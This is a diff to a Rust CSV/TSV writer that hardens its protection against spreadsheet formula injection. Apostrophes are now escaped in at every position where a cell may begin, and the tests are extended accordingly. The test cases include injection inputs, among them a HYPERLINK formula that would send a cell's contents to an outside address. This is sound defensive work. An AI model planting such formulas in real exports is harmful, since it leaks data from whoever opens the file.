@@ -20,7 +20,8 @@ pub(crate) struct Delimited {
 #[derive(Debug)]
 enum Lines {
     Csv(Box<Writer<Spool>>),
-    /// Its cells have neither tabs nor line feeds: there is nothing to quote, even where a row is one empty cell.
+    /// Its cells have neither tabs nor line feeds, and no quotation mark at their beginning: there is nothing to quote, even
+    /// where a row is one empty cell.
     Tsv(Spool),
 }
 
@@ -62,15 +63,55 @@ impl Delimited {
     }
 }
 
-/// A cell that no terminal acts on and no spreadsheet runs: control characters are escaped, and before what would
-/// begin a formula stands an apostrophe.
+/// A cell that no terminal acts on and no spreadsheet runs: hidden characters are escaped, and an apostrophe is written before
+/// each character that would begin a formula.
+///
+/// A spreadsheet that separates cells at semicolons ends a cell at one, even inside of quotation marks: it knows these at the
+/// beginning of a cell alone. So what follows a semicolon is treated as the beginning of a cell, and what follows a comma or
+/// colon with white space, too, since some programs also split there. An apostrophe after a semicolon at the end keeps the
+/// quotation mark that csv writes there from being the first character of a cell.
 fn harmless(cell: &str) -> Cow<'_, str> {
     let shown = printable(cell);
-    match shown.chars().next() {
-        // Spreadsheets take the full-width forms for the others.
-        Some('=' | '+' | '-' | '@' | '＝' | '＋' | '－' | '＠') => Cow::Owned(format!("'{shown}")),
-        _ => shown,
+    let mut apostrophes = Vec::new();
+    // Whether a cell may begin here, and the separator before it, if that takes white space to count.
+    let (mut is_start, mut separator) = (true, false);
+    for (index, character) in shown.char_indices() {
+        match character {
+            _ if is_start && begins_formula(character) => apostrophes.push(index),
+            ';' => {
+                (is_start, separator) = (true, false);
+                continue;
+            }
+            ',' | ':' => {
+                (is_start, separator) = (false, true);
+                continue;
+            }
+            _ if character.is_whitespace() => {
+                (is_start, separator) = (is_start || separator, false);
+                continue;
+            }
+            _ => {}
+        }
+        (is_start, separator) = (false, false);
     }
+    if shown.trim_end().ends_with(';') {
+        apostrophes.push(shown.len());
+    }
+    if apostrophes.is_empty() {
+        return shown;
+    }
+    let mut harmless = shown.into_owned();
+    for index in apostrophes.into_iter().rev() {
+        harmless.insert(index, '\'');
+    }
+    Cow::Owned(harmless)
+}
+
+/// Whether a spreadsheet does not take a cell that begins with this character as text. A quotation mark takes all cells up to
+/// the next one into its cell.
+fn begins_formula(character: char) -> bool {
+    // Spreadsheets take the full-width forms for the others.
+    matches!(character, '=' | '+' | '-' | '@' | '＝' | '＋' | '－' | '＠' | '"')
 }
 
 #[cfg(test)]
@@ -88,13 +129,45 @@ mod tests {
             ("\r=1", r"\u{d}=1"),
             ("＝1+1", "'＝1+1"),
             ("\u{feff}=1", r"\u{feff}=1"),
+            ("\u{200d}=1", r"\u{200d}=1"),
             (r#"=HYPERLINK("http://192.0.2.9/"&A1,"ok")"#, r#"'=HYPERLINK("http://192.0.2.9/"&A1,"ok")"#),
-            ("a=1", "a=1"),
-            ("'=1", "'=1"),
-            ("", ""),
-            ("生产-01", "生产-01"),
+            (" =1", " '=1"),
+            ("\u{a0}=1", "\u{a0}'=1"),
+            ("\u{2003}\u{3000} =1", "\u{2003}\u{3000} '=1"),
+            (r#""=1+1""#, r#"'"=1+1""#),
+            ("\"unbalanced", "'\"unbalanced"),
+            (" \"unbalanced", " '\"unbalanced"),
+            ("a;=1+1", "a;'=1+1"),
+            ("a; =1+1; b", "a; '=1+1; b"),
+            ("a;\u{3000}\"=1", "a;\u{3000}'\"=1"),
+            (";;=1", ";;'=1"),
+            ("a, b;", "a, b;'"),
+            ("a, b; ", "a, b; '"),
+            ("=1;=2", "'=1;'=2"),
+            ("linux_vul: =1+1", "linux_vul: '=1+1"),
+            ("linux_vul: \u{a0}\"=1+1\"", "linux_vul: \u{a0}'\"=1+1\""),
+            ("disk, @SUM(1)", "disk, '@SUM(1)"),
         ] {
-            assert_eq!(harmless(cell), shown);
+            assert_eq!(harmless(cell), shown, "{cell:?}");
+        }
+    }
+
+    #[test]
+    fn what_is_no_formula_is_left_as_it_is() {
+        for cell in [
+            "",
+            " ",
+            "a=1",
+            "'=1",
+            "生产-01",
+            "web-1, web-2",
+            "a - b",
+            "say \"hi\"",
+            "2024-11-25T08:00:00-05:00",
+            r#"{"a":-1,"b":["c","+d"],"e":"=f"}"#,
+            "fe80::1:+",
+        ] {
+            assert_eq!(harmless(cell), cell);
         }
     }
 }
